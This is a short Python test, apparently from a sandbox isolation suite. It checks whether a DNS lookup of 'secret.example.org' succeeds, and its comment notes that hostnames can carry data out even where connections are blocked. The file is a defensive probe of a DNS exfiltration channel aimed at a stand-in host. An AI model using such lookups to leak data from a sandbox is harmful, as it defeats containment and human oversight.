# expect: succeeded
# why: names carry data out even where connections are blocked
import socket


def main():
    try:
        return {"escaped": True, "detail": socket.getaddrinfo("secret.example.org", 443)[0][4][0]}
    except OSError as error:
        return {"escaped": False, "detail": str(error)}
